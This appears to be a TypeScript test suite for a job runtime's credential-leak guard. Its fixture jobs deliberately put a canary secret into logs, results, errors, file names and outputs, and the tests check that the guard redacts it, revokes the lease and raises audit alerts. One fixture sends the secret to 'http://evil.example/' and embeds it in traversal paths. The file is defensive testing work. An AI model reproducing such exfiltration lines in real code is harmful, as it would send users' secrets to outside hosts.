// Jobs that give their credential away, by accident or not, in real runs. Afterwards the oracle reads every sink: the state
// directory with ledger, journal, logs and outputs, the record, and all that was told while the run went on. Each job runs
// a second time with a guard that looks for something else, and that time the oracle must find the leak.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import t from "tap";
import { exitCodeOfRun } from "../../runtime/model/exit-code.ts";
import type { RunRecord } from "../../runtime/model/run.ts";
import { canaryForms, fileSinks, findCanary, makeCanary } from "../../runtime/testkit/canary.ts";
import { type JobUnderTest, openRuns, type Runs } from "../support/runs.ts";

/** Everything that was kept or told of the runs of one runtime. */
async function sinksOf(runs: Runs, ...records: RunRecord[]) {
  const told = runs.events.map((event) => JSON.stringify(event)).join("\n");
  const logs = (await Promise.all(records.map((record) => runs.logs(record)))).flat().join("\n");
  const names = Object.keys(fileSinks(runs.runtime.state.path)).join("\n");
  const opened = await Promise.all(records.map((record) => outputsOf(runs, record)));
  const files = fileSinks(runs.runtime.state.path);
  return { told, logs, names, records: JSON.stringify(records), ...files, ...Object.assign({}, ...opened) };
}

/** On the disk they are sealed: what counts is what a reader gets. */
async function outputsOf(runs: Runs, { id, outputs }: RunRecord): Promise<Record<string, Uint8Array>> {
  const opened: Record<string, Uint8Array> = {};
  for (const output of outputs) {
    const pieces: Uint8Array[] = [];
    for await (const piece of runs.runtime.archive.readOutput(id, output)) pieces.push(piece);
    opened[`output ${id} ${output.path}`] = Buffer.concat(pieces);
  }
  return opened;
}

/** The same jobs, with a guard and without one. */
async function bothWays(
  secret: string,
  jobs: Record<string, JobUnderTest>,
  work: (runs: Runs, isGuarded: boolean) => Promise<void>,
  end: (runs: Runs) => Promise<void>,
) {
  for (const isGuarded of [true, false]) {
    const issuer = { secrets: Object.keys(jobs).map(() => secret), ...(isGuarded ? {} : { parts: [makeCanary()] }) };
    const runs = await openRuns(jobs, { issuer });
    try {
      await work(runs, isGuarded);
    } finally {
      await end(runs);
    }
  }
}

const secret = makeCanary();
const leaky: Record<string, JobUnderTest> = {
  log: {
    body: `const s = await c.credential.fetch();
      c.log.info("token=" + s + " is mine"); c.log.warn(btoa("user:" + s));
      console.log({ a: [{ deep: s }] }); console.error(new Error("no: " + s)); console.table?.([{ s }]);`,
  },
  "split log": {
    body: `const s = await c.credential.fetch();
      for (const part of s.match(/.{1,9}/g)) c.log.info(part); c.log.info(s.match(/.{1,9}/g).join("\\n"));`,
  },
  result: { body: "const s = await c.credential.fetch(); return { s, list: [s, s], [s]: 1, text: 'a ' + s + ' b' };" },
  "bytes in the result": { body: "return [...new TextEncoder().encode(await c.credential.fetch())];" },
  error: { body: "throw new TypeError('refused: ' + (await c.credential.fetch()));" },
  "error within": {
    body: `const s = await c.credential.fetch(); const inner = new Error("in", { cause: new RangeError("refused: " + s) });
      throw new AggregateError([inner], "no " + s.slice(0, 6));`,
  },
  "thrown object": { body: "throw { token: await c.credential.fetch(), toString() { return this.token; } };" },
  rejection: {
    body: "const s = await c.credential.fetch(); Promise.reject(new Error(s)); await new Promise((f) => setTimeout(f, 50));",
  },
  output: {
    body: `const s = await c.credential.fetch();
      await c.files.write("/output/a.json", JSON.stringify({ authorization: "Bearer " + s }));
      await c.files.write("/output/deep/b.txt", s.slice(0, 15)); await c.files.write("/output/deep/b.txt", s.slice(15), { append: true });
      await c.files.write("/output/c.bin", Uint8Array.from(c.input));`,
  },
  names: {
    body: `const s = await c.credential.fetch(); const codes = [];
      for (const path of ["/output/" + s, "/" + s + "/a", "/output/" + s.slice(0, 10) + "/" + s.slice(10), "/../" + s])
        codes.push(await c.files.write(path, "x").catch((e) => e.code), await c.files.mkdir(path).catch((e) => e.code));
      codes.push(await c.files.read("/" + s).catch((e) => e.code), await c.files.list("/" + btoa(s)).catch((e) => e.code));
      return [...new Set(codes)];`,
  },
  denials: {
    body: `const s = await c.credential.fetch();
      for (const url of ["http://evil.example/" + s, "http://" + s.slice(0, 30) + ".example/", "ftp://x/" + s, "no url " + s])
        await c.fetch(url).catch(() => {});
      await c.identity?.token(s).catch(() => {});`,
  },
};

t.test(
  "[CRED-10] a credential in logs, results, errors, outputs, names and refusals: in no sink (AUD-07)",
  async (t) => {
    const jobs = Object.fromEntries(Object.entries(leaky).map(([name, job]) => [name, { ...job, credential: true }]));
    await bothWays(
      secret,
      jobs,
      async (runs, isGuarded) => {
        for (const name of Object.keys(jobs)) {
          const record = await runs.run(name, [...gzipSync(`packed ${secret}`)]);
          const found = findCanary(secret, await sinksOf(runs, record));
          if (!isGuarded) {
            t.not(found.length, 0, `the twin leaks: ${name}`);
            continue;
          }
          t.same(found, [], name);
          if (name !== "denials")
            t.match(record.leaks, [{ sink: /^(log|result|error|output|file name)$/, form: String }], name);
          t.equal(record.lease?.state, "revoked");
          t.equal(record.teardown.lease, "confirmed");
        }
        if (!isGuarded) return;
        const alerts = runs.runtime.store.auditEntries(1, 10_000).filter(({ event }) => event.code === "leak");
        const leaks = runs.events.filter((event) => event.type === "ended").flatMap((event) => event.record.leaks);
        t.ok(
          alerts.filter(({ event }) => event.type === "alert").length >= leaks.length,
          "each is an alert in the audit",
        );
        t.ok(
          runs.events.some((event) => event.type === "alert" && event.code === "leak"),
          "and to whoever follows the run",
        );
      },
      (runs) => runs.end(t),
    );
  },
);

t.test("[CRED-11] each form of it in a log, a result and a file", async (t) => {
  const canary = makeCanary();
  const forms = canaryForms(canary).map(([, needle]) => needle);
  const data = t.testdir({ "forms.json": JSON.stringify(forms) }); // an input would be kept
  const body = `await c.credential.fetch(); const forms = JSON.parse(await c.files.readText("/data/forms.json"));
    for (const form of forms) c.log.info("[" + form + "]");
    await c.files.write("/output/all.txt", forms.join("\\n")); return forms;`;
  await bothWays(
    canary,
    { all: { body, credential: true, mounts: { "/data": data } } },
    async (runs, isGuarded) => {
      const record = await runs.run("all");
      const found = findCanary(canary, await sinksOf(runs, record));
      if (isGuarded) t.same(found, []);
      else t.ok(new Set(found.map(({ form }) => form)).size >= 8, "the twin leaks in all of them");
    },
    (runs) => runs.end(t),
  );
});

t.test("[CRED-10] a credential that is a number (AUD-07)", async (t) => {
  const digits = "481516234210869712";
  await bothWays(
    digits,
    {
      number: {
        body: "const s = await c.credential.fetch(); c.log.info(Number(s.slice(0, 15))); return { n: Number(s.slice(0, 15)) };",
        credential: true,
      },
    },
    async (runs, isGuarded) => {
      const record = await runs.run("number");
      t.equal(findCanary(digits, await sinksOf(runs, record)).length > 0, !isGuarded);
      if (isGuarded) t.equal(record.result, "[credential]", "what is no text is not kept at all");
    },
    (runs) => runs.end(t),
  );
});

t.test("the lease is dead at the first leak, while the run goes on", async (t) => {
  const runs = await openRuns({
    careless: {
      body: `const s = await c.credential.fetch(); c.log.info(s);
        for (;;) { const code = await c.credential.fetch().then(() => "live", (e) => e.code); if (code !== "live") return code; await new Promise((f) => setTimeout(f, 5)); }`,
      credential: true,
    },
    "not to go on": {
      body: "c.log.info(await c.credential.fetch()); await new Promise(() => {});",
      credential: { onLeak: "end" },
    },
    "leaks at its end": { body: "return await c.credential.fetch();", credential: { onLeak: "end" } },
    "leaks when it is over": {
      body: 'await c.files.write("/output/a", await c.credential.fetch());',
      credential: { onLeak: "end" },
    },
    "throws it": { body: "throw new Error(await c.credential.fetch());", credential: { onLeak: "end" } },
    careful: {
      body: "const s = await c.credential.fetch(); c.log.info(s.length); return s.length;",
      credential: { onLeak: "end" },
    },
  });
  const going = await runs.start("careless");
  const revoked = await runs.event(
    (event) => event.type === "lease" && event.runId === going.id && event.state === "revoked",
  );
  t.match(revoked.type, "lease");
  t.notOk(runs.issuer.accepts(runs.issuer.minted[0] ?? ""), "the issuer no longer takes it");
  const record = await going.done;
  t.match(record, { state: "succeeded", result: "ended", leaks: [{ sink: "log", form: "raw" }] });
  t.match(record.teardown, { lease: "confirmed", process: "confirmed" });
  t.equal(runs.issuer.minted.length, 1, "and it gets no other");
  for (const [name, sink] of [
    ["not to go on", "log"],
    ["leaks at its end", "result"],
    ["leaks when it is over", "output"],
    ["throws it", "error"],
  ] as const) {
    const ended = await runs.run(name);
    t.match(ended, { state: "failed", result: null, error: { code: "leak" }, leaks: [{ sink, form: "raw" }] }, name);
    t.equal(exitCodeOfRun(ended), 1);
  }
  t.match(await runs.run("careful"), { state: "succeeded", leaks: [] });
  await runs.end(t);
});

t.test(
  "[CRED-14] guesses: as many as a job likes while they are wrong, and none after the first that is right",
  async (t) => {
    const right = makeCanary();
    const guesses = Array.from({ length: 300 }, makeCanary);
    const body = `const alive = () => c.credential.fetch().then(() => true, () => false); await c.credential.fetch();
    for (const guess of c.input.slice(0, -1)) c.log.info(guess);
    const before = await alive(); c.log.info(c.input.at(-1));
    while (await alive()) await new Promise((f) => setTimeout(f, 5));
    return before;`;
    const runs = await openRuns({ guesser: { body, credential: true } }, { issuer: { secrets: [right] } });
    const record = await runs.run("guesser", [...guesses, right]);
    t.match(record, { state: "succeeded", result: true, leaks: [{ sink: "log" }] });
    t.same((await runs.logs(record)).slice(0, -1), guesses, "what is wrong is not redacted");
    await runs.end(t);
  },
);

/** Says what it was asked, in its head and its body. */
async function openEcho(): Promise<{ server: Server; host: string }> {
  const server = createServer((request, response) => {
    const { authorization = "" } = request.headers;
    response.setHeader("x-echo", authorization);
    response.end(JSON.stringify({ authorization, base64: Buffer.from(authorization).toString("base64") }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, host: `127.0.0.1:${(server.address() as AddressInfo).port}` };
}

t.test("[CRED-09] a sealed credential that its server echoes never reaches the job", async (t) => {
  const { server, host } = await openEcho();
  t.teardown(() => server.close());
  const sealed = { place: { header: "authorization" }, hosts: [host], requests: null, perRequest: 1 };
  const body = `const s = await c.credential.fetch();
    const answer = await c.fetch("http://${host}/", { headers: { authorization: "Bearer " + s } });
    const text = await answer.text(); c.log.info(text);
    return { placeholder: s, header: answer.headers.get("x-echo"), echo: JSON.parse(text) };`;
  await bothWays(
    secret,
    { echoed: { body, network: [`GET http://${host}/*`], credential: { delivery: "sealed", sealed } } },
    async (runs, isGuarded) => {
      const record = await runs.run("echoed");
      const found = findCanary(secret, await sinksOf(runs, record));
      if (!isGuarded) return void t.not(found.length, 0, "the twin leaks");
      t.same(found, []);
      const { placeholder, header, echo } = record.result as {
        placeholder: string;
        header: string;
        echo: { authorization: string };
      };
      t.same([header, echo.authorization], [`Bearer ${placeholder}`, `Bearer ${placeholder}`]);
      t.same(record.leaks, [], "the job did nothing wrong");
      const types = runs.runtime.store.auditEntries(1, 1_000).map(({ event }) => event.type);
      t.equal(types.filter((type) => type === "credential.echoed").length, 2, "it is noted");
    },
    (runs) => runs.end(t),
  );
});

t.test("[CRED-09] a revealed credential that goes to its server is used, and the audit says so", async (t) => {
  const { server, host } = await openEcho();
  t.teardown(() => server.close());
  const body = `const s = await c.credential.fetch();
    const answer = await c.fetch("http://${host}/", { headers: { authorization: "Bearer " + s } });
    return (await answer.json()).authorization === "Bearer " + s;`;
  const runs = await openRuns(
    { user: { body, network: [`GET http://${host}/*`], credential: true } },
    { issuer: { secrets: [secret] } },
  );
  const record = await runs.run("user");
  t.match(record, { state: "succeeded", result: true, leaks: [] });
  const sent = runs.runtime.store.auditEntries(1, 1_000).filter(({ event }) => event.type === "credential.sent");
  t.match(sent, [{ event: { target: `GET http://${host}/`, detail: "in the header field authorization, raw" } }]);
  t.same(findCanary(secret, await sinksOf(runs, record)), []);
  await runs.end(t);
});

t.test("[CRED-12] a credential too short to look for: the operator hears it, once a run", async (t) => {
  const runs = await openRuns(
    { short: { body: "c.log.info(await c.credential.fetch());", credential: true } },
    { issuer: { secrets: ["tiny"] } },
  );
  const record = await runs.run("short");
  t.match(record, { state: "succeeded", leaks: [] });
  const alerts = runs.events.filter((event) => event.type === "alert");
  t.match(alerts, [{ code: "leak_blind", message: /1 of the 1 texts .* fewer than 8 characters/ }]);
  t.equal(alerts.length, 1);
  await runs.end(t);
});
